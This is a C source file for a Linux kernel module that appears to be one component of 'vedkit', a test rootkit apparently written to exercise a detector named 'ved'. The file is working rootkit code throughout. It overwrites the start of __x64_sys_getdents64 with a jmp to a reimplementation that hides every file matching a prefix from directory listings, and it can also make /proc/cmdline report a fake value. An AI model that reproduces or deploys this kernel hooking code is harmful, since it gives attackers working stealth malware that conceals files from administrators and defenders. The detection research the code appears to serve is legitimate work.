// SPDX-License-Identifier: GPL-2.0
/*
 * inline_hook: an inline hook in core kernel text, the oldest rootkit trick
 * (Phrack 59, Suterusu, Reptile): the start of a kernel function is
 * overwritten with a jmp to the rootkit's replacement, which does the job
 * itself and never returns into the original.  Nothing is registered with
 * ftrace or kprobes, no table or pointer changes: only the code's bytes.
 *
 * The jmp goes right after the function's endbr64 (or the nop the kernel
 * sealed it into) and its ftrace nop, as for patch_module, and is written
 * with the kernel's own text_poke_bp() under text_mutex.  Targets
 * (inline_target=):
 *
 *   getdents64  __x64_sys_getdents64: a re-implementation of getdents64
 *               that leaves out every entry starting with hide_prefix, so
 *               ls and find no longer list those files (a function
 *               rootkits patch: ved hashes its page on every sweep)
 *   cmdline     cmdline_proc_show: /proc/cmdline reads "vedkit" (a
 *               function no rootkit needs: its page waits for ved's
 *               spread hashing pass)
 *
 * rmmod writes the original bytes back if the jmp is still ours, then
 * waits for callers still inside the replacement.
 */
#define pr_fmt(fmt) "vedkit: " fmt

#include <linux/atomic.h>
#include <linux/delay.h>
#include <linux/dirent.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/seq_file.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <asm/ptrace.h>

#include "vedkit.h"

static char *vk_inline_target = "getdents64";
module_param_named(inline_target, vk_inline_target, charp, 0400);
MODULE_PARM_DESC(inline_target, "inline_hook: getdents64 (hides hide_prefix files) or cmdline (/proc/cmdline lies)");

static u8 *vk_site;
static u8 vk_orig[VK_INSN_LEN], vk_jmp[VK_INSN_LEN];
static atomic_t vk_inline_hits = ATOMIC_INIT(0), vk_inline_inside = ATOMIC_INIT(0);

/* ---- getdents64, re-implemented with a filter ---- */

struct vk_dents {
	struct dir_context ctx;
	struct linux_dirent64 __user *cur;
	struct linux_dirent64 __user *prev;
	unsigned int left;
	int error;
};

static bool vk_fill64(struct dir_context *ctx, const char *name, int namlen,
		      loff_t offset, u64 ino, unsigned int d_type)
{
	struct vk_dents *d = container_of(ctx, struct vk_dents, ctx);
	unsigned int reclen = ALIGN(offsetof(struct linux_dirent64, d_name) + namlen + 1,
				    sizeof(u64));
	struct linux_dirent64 head = {
		.d_ino = ino, .d_reclen = reclen, .d_type = d_type,
	};
	size_t plen = strlen(vk_hide_prefix);

	if (plen && namlen >= plen && !memcmp(name, vk_hide_prefix, plen))
		return true;	/* hidden: keep going */
	d->error = -EINVAL;	/* buffer too small for even one entry */
	if (reclen > d->left)
		return false;
	/* the previous entry's d_off is where this one starts */
	if (d->prev && put_user(offset, &d->prev->d_off))
		goto fault;
	if (copy_to_user(d->cur, &head, offsetof(struct linux_dirent64, d_name)) ||
	    copy_to_user(d->cur->d_name, name, namlen) ||
	    put_user(0, d->cur->d_name + namlen))
		goto fault;
	d->prev = d->cur;
	d->cur = (void __user *)d->cur + reclen;
	d->left -= reclen;
	d->error = 0;
	return true;
fault:
	d->error = -EFAULT;
	return false;
}

static long vk_getdents64(const struct pt_regs *regs)
{
	unsigned int count = regs->dx;
	struct vk_dents d = {
		.ctx.actor = vk_fill64, .cur = (void __user *)regs->si, .left = count,
	};
	struct file *f;
	long ret;

	atomic_inc(&vk_inline_inside);
	atomic_inc(&vk_inline_hits);
	f = fget(regs->di);
	if (!f) {
		ret = -EBADF;
		goto out;
	}
	ret = iterate_dir(f, &d.ctx);
	if (ret >= 0)
		ret = d.error;
	if (d.prev) {
		/* something was written: report it, as getdents64 does */
		ret = put_user(d.ctx.pos, &d.prev->d_off) ? -EFAULT : count - d.left;
	}
	fput(f);
out:
	atomic_dec(&vk_inline_inside);
	return ret;
}

/* ---- /proc/cmdline ---- */

static int vk_cmdline_show(struct seq_file *m, void *v)
{
	atomic_inc(&vk_inline_hits);
	seq_puts(m, "vedkit\n");
	return 0;
}

static const struct {
	const char *name, *symbol;
	void *hook;
} vk_targets[] = {
	{ "getdents64", "__x64_sys_getdents64", vk_getdents64 },
	{ "cmdline", "cmdline_proc_show", vk_cmdline_show },
};

/* ---- patching ---- */

/* Read-only views for the tests: the patched site, and the live jmp target. */
static int vk_get_inline_addr(char *buf, const struct kernel_param *kp)
{
	return sysfs_emit(buf, "%px\n", vk_site);
}

static int vk_get_inline_hook(char *buf, const struct kernel_param *kp)
{
	if (!vk_site || vk_site[0] != VK_JMP32)
		return sysfs_emit(buf, "0\n");
	return sysfs_emit(buf, "%ps\n", vk_rel32_target(vk_site));
}

static const struct kernel_param_ops vk_inline_addr_ops = { .get = vk_get_inline_addr };
static const struct kernel_param_ops vk_inline_hook_ops = { .get = vk_get_inline_hook };
module_param_cb(inline_addr, &vk_inline_addr_ops, NULL, 0400);
MODULE_PARM_DESC(inline_addr, "(read) inline_hook: patched address in core text");
module_param_cb(inline_hook, &vk_inline_hook_ops, NULL, 0400);
MODULE_PARM_DESC(inline_hook, "(read) inline_hook: live target of the jmp at the site, 0 if none");

int vk_inline_hook_init(void)
{
	unsigned long fn = 0, hook = 0;
	int i, ret;

	for (i = 0; i < ARRAY_SIZE(vk_targets); i++) {
		if (!strcmp(vk_inline_target, vk_targets[i].name)) {
			fn = vk_lookup(vk_targets[i].symbol);
			hook = (unsigned long)vk_targets[i].hook;
			break;
		}
	}
	if (i == ARRAY_SIZE(vk_targets))
		return -EINVAL;
	if (!fn)
		return -ENOENT;
	vk_site = vk_after_prologue((u8 *)fn);
	ret = vk_rel32_insn(vk_jmp, VK_JMP32, vk_site, hook);
	if (!ret) {
		memcpy(vk_orig, vk_site, VK_INSN_LEN);
		ret = vk_poke(vk_site, vk_jmp, NULL);
	}
	if (ret) {
		vk_site = NULL;
		return ret;
	}
	pr_info("%s+%#lx: jmp %ps\n", vk_targets[i].symbol,
		(unsigned long)vk_site - fn, (void *)hook);
	return 0;
}

void vk_inline_hook_exit(void)
{
	if (!vk_site)
		return;
	if (!memcmp(vk_site, vk_jmp, VK_INSN_LEN))
		vk_poke(vk_site, vk_orig, vk_jmp);
	else
		pr_info("inline hook already removed by someone else\n");
	/* text_poke_bp() synced every CPU: no new entry; wait for the ones inside */
	while (atomic_read(&vk_inline_inside))
		msleep(10);
	pr_info("inline hook called %d times\n", atomic_read(&vk_inline_hits));
	vk_site = NULL;
}
